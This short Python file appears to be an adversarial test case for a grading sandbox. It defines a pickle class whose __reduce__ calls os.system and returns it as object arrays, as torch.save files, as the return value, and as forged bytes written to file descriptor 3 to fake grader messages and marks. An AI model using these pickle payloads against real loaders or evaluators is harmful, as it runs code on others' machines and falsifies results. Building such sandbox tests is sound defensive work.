# ruff: noqa
# kind: marks forged
# attack: pickles that run code, as results, as torch files, as arrays of objects, and written over the channel in the place of a message
# room: torch

# %% new
import torch, io, os, pickle


# %% double-solution
class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/shadow",)


def double(x):
    if x.size == 5:
        return np.array([Bomb()] * 5, dtype=object)
    if x.size == 7:
        file = io.BytesIO()
        torch.save({"x": Bomb()}, file)
        return np.frombuffer(file.getvalue(), np.uint8)
    data = pickle.dumps(Bomb())
    os.write(3, len(data).to_bytes(4, "big") + (1).to_bytes(4, "big") + data * 100)
    return pickle.dumps(Bomb())
